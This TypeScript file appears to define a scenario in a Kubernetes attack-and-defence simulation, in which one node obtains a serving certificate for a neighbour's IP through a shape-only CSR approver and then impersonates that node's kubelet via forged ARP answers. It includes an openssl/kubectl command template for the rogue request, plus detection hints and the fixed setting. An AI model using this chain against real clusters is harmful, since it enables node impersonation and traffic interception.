import { neighbour } from '../../attacker/position';
import { SERVING_SIGNER } from '../../kubelet/bootstrap';
import { addresses } from '../addresses';
import { defenceSettings } from '../defences';
import { requestNodeCertificate } from './certificate-request';
import { clientOn } from './client-on';
import { poseAsKubelet } from './pose-as-kubelet';
import type { Scenario } from './scenario';

export const rogueServingCsr: Scenario = {
  id: 'rogue-serving-csr',
  title: 'a serving certificate for the neighbour’s address',
  story:
    'The apiserver verifies kubelets: chain, serverAuth, and that the address it dials stands in the certificate. Whose node that is it does not ask, and the signer copies the SANs of the request; so all depends on who approves. NodeRestriction holds a node to its own CN, and no further: here node-2 asks for a certificate in its own name with node-1’s address, and with it answers for node-1 from a place on the path.',
  needs:
    'The client certificate of one node, an approver that looks at the shape of requests alone, and a place on the path to the other node.',
  evidence:
    'A certificate of the cluster’s signer with the neighbour’s address; the apiserver, which verifies, believes it, and kubectl prints what was invented.',
  attack: ['T1078'],
  setting: {
    name: 'approver of kubelet-serving requests (--midplane-approve-kubelet-serving)',
    open: 'shape: looks at signer, subject and usages, as third-party approvers did and people in a hurry do',
    fixed: 'node-addresses: the SANs must be names and addresses of that Node',
  },
  notice:
    'A CertificateSigningRequest for kubernetes.io/kubelet-serving whose SANs are not in the status.addresses of the Node that its CN names (kubectl get csr -o yaml, openssl req -text); on the wire, a kubelet at node-1’s address whose certificate says CN=system:node:node-2.',
  sources: [
    'pkg/controller/certificates/signer/signer.go, approver/sarapprove.go',
    'plugin/pkg/admission/noderestriction/admission.go (admitCSRCreate)',
    'KEP-4872 (KubeletCertCNValidation); alex1989hu/kubelet-serving-cert-approver issues 337 and 348',
  ],
  async play(stage, twin) {
    const cluster = await stage.cluster({
      ...defenceSettings('kubelet-ca'),
      apiserverFlags: [],
      controllerSettings: { approveKubeletServing: twin === 'open' ? 'shape' : 'node-addresses' },
    });
    await using thief = clientOn(cluster.attackerHost, cluster, {
      clientCertificate: cluster.pki.kubeletClients['node-2'],
    });
    const ask = (cn: string): string =>
      `openssl req -new -subj "/O=system:nodes/CN=system:node:${cn}" -addext "subjectAltName=IP:${addresses.node1}" … | kubectl create -f -`;
    const wanted = {
      signerName: SERVING_SIGNER,
      usage: 'server auth',
      altNames: { ipAddresses: [addresses.node1] },
    } as const;
    const foreign = await requestNodeCertificate(stage, thief, { ...wanted, node: 'node-1' });
    if (foreign.kind === 'failed') await stage.refused('node-2', ask('node-1'), foreign.text);
    const asked = await requestNodeCertificate(stage, thief, { ...wanted, node: 'node-2' });
    if (asked.kind === 'failed') return stage.refused('node-2', ask('node-2'), asked.text);
    await asked.decided();
    const { pair, text } = await asked.look();
    const gain = 'a certificate of the cluster’s authority for node-1’s address';
    if (pair === null) await stage.refused('node-2', ask('node-2'), text);
    else await stage.gained('node-2', ask('node-2'), text, gain);

    const position = neighbour(cluster.controlPlane, cluster.attackerHost, addresses.node1);
    const fake = await poseAsKubelet(stage, cluster, { address: addresses.node1, position, present: pair });
    await stage.did('attacker', 'forged ARP answers', position.describe());
    await fake.isAskedFor('web');
  },
};
